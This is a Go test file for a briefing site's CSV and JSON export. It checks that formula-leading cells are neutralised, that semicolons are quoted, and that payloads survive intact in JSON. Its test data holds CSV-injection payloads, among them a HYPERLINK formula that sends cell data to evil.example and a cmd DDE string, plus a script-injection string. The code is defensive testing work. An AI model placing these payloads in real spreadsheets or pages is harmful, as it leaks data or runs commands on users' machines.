package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"brief/internal/content"
	"brief/internal/funding"
	"brief/internal/funding/fundingtest"
	"brief/internal/money"
	"brief/internal/site"
)

// Cells that spreadsheets run as formulas (OWASP "CSV injection").
var formulaStarts = []string{"=", "+", "-", "@", "\t", "\r"}

// hostile returns a payload starting with each dangerous character.
func hostile() []string {
	return []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1,2)",
		"\t=1+2",
		"\r=1+3",
	}
}

// injectionCorpus puts a payload into every column an editor can reach:
// title, jurisdictions (first and later), purpose, and the slug in the URL.
func injectionCorpus(t *testing.T) []*content.Briefing {
	var bs []*content.Briefing
	for i, p := range hostile() {
		b := fundingtest.Briefing("content/briefings/x"+string(rune('a'+i))+".md", p, "2023-05-10",
			[]string{p, "Beijing; " + p}, []string{p},
			fundingtest.Fund(t, 8, "100m", "CNY", "14m", p), fundingtest.Fund(t, 9, "0.5", "HKD", "", p))
		for j := range b.Funding {
			b.Funding[j].Jurisdiction = p // the briefing names two
		}
		b.Slug = "-" + string(rune('a'+i))
		b.Summary = p
		b.Authors = []string{p}
		b.Sources = []content.Source{{Title: p, URL: "https://example.org/"}}
		bs = append(bs, b)
	}
	return bs
}

// Every text cell that begins with =, +, -, @, tab or CR gets a leading
// apostrophe and is otherwise intact; amounts are never touched.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, toml := range []string{fundingtest.RatesTOML, fundingtest.NoRatesTOML, "baseURL = \"/\"\n"} {
		cfg := fundingtest.Config(t, toml)
		s := fundingtest.Site(t, cfg, injectionCorpus(t))
		var buf bytes.Buffer
		if err := CSV(&buf, cfg, s.Briefings); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("CSV does not parse: %v\n%s", err, buf.String())
		}
		items := funding.Items(cfg, s.Briefings)
		if len(rows) != len(items)+1 {
			t.Fatalf("%d rows for %d items", len(rows), len(items))
		}
		for r, row := range rows[1:] {
			it := items[r]
			for c, cell := range row {
				for _, bad := range formulaStarts {
					if strings.HasPrefix(cell, bad) {
						t.Errorf("row %d column %s starts with %q: %q", r+1, CSVHeader[c], bad, cell)
					}
				}
			}
			want := map[string]string{
				"title":         "'" + it.Briefing.Title,
				"jurisdictions": "'" + it.Briefing.Jurisdictions[0].Name + "; " + it.Briefing.Jurisdictions[1].Name,
				"purpose":       "'" + it.Funding.Purpose,
				"amount":        it.Funding.Amount.String(),
				"currency":      it.Funding.Currency,
			}
			for c, name := range CSVHeader {
				if w, ok := want[name]; ok && row[c] != w {
					t.Errorf("row %d %s = %q, want %q", r+1, name, row[c], w)
				}
			}
			for _, name := range []string{"amount", "report_amount"} {
				cell := row[colIndex(t, name)]
				if cell == "" && name == "report_amount" {
					continue
				}
				if _, err := money.ParseDecimal(cell); err != nil || strings.HasPrefix(cell, "'") {
					t.Errorf("row %d %s = %q is not a plain decimal", r+1, name, cell)
				}
			}
		}
	}
}

func colIndex(t *testing.T, name string) int {
	for i, h := range CSVHeader {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %s", name)
	return -1
}

// A semicolon is a field separator where Excel's locale says so (much of
// Europe): a text cell holding one is quoted, so that no part of it can
// start a cell of its own there.
func TestCSVQuotesSemicolons(t *testing.T) {
	cfg := fundingtest.Config(t, fundingtest.RatesTOML)
	bs := fundingtest.Corpus(t)
	bs[0].Title = "Plan;=1+1"
	s := fundingtest.Site(t, cfg, bs)
	var buf bytes.Buffer
	if err := CSV(&buf, cfg, s.Briefings); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `,"Plan;=1+1",`) {
		t.Errorf("a cell with a semicolon is not quoted:\n%s", buf.String())
	}
}

// briefings.json is data, not a spreadsheet: the same payloads stay exactly
// as written, and the file stays valid JSON without a raw U+2028 or U+2029,
// which end a JavaScript string in older engines. (It is served as a file of
// its own, never inlined into a page, so "<" may stay readable.)
func TestJSONKeepsPayloadsIntact(t *testing.T) {
	cfg := fundingtest.Config(t, fundingtest.RatesTOML)
	bs := injectionCorpus(t)
	bs[0].Title = "</script><script>alert(1)</script>\u2028\u2029"
	s := fundingtest.Site(t, cfg, bs)
	var buf bytes.Buffer
	if err := JSON(&buf, cfg, site.AbsURL(cfg, "/"), s.Briefings); err != nil {
		t.Fatal(err)
	}
	var doc jsonData
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("JSON does not parse: %v", err)
	}
	byURL := map[string]jsonBriefing{}
	for _, b := range doc.Briefings {
		byURL[b.URL] = b
	}
	for _, b := range s.Briefings {
		got := byURL["https://example.org/policy"+b.URL]
		if got.Title != b.Title || got.Summary != b.Summary || got.Funding[0].Purpose != b.Funding[0].Purpose ||
			got.Jurisdictions[0] != b.Jurisdictions[0].Name || got.Authors[0] != b.Authors[0] || got.Sources[0].Title != b.Sources[0].Title {
			t.Errorf("%s: payload changed in JSON: %+v", b.Path, got)
		}
	}
	for _, bad := range []string{"\u2028", "\u2029"} {
		if strings.Contains(buf.String(), bad) {
			t.Errorf("JSON holds a raw %U, which ends a JavaScript string in older engines", []rune(bad)[0])
		}
	}
}
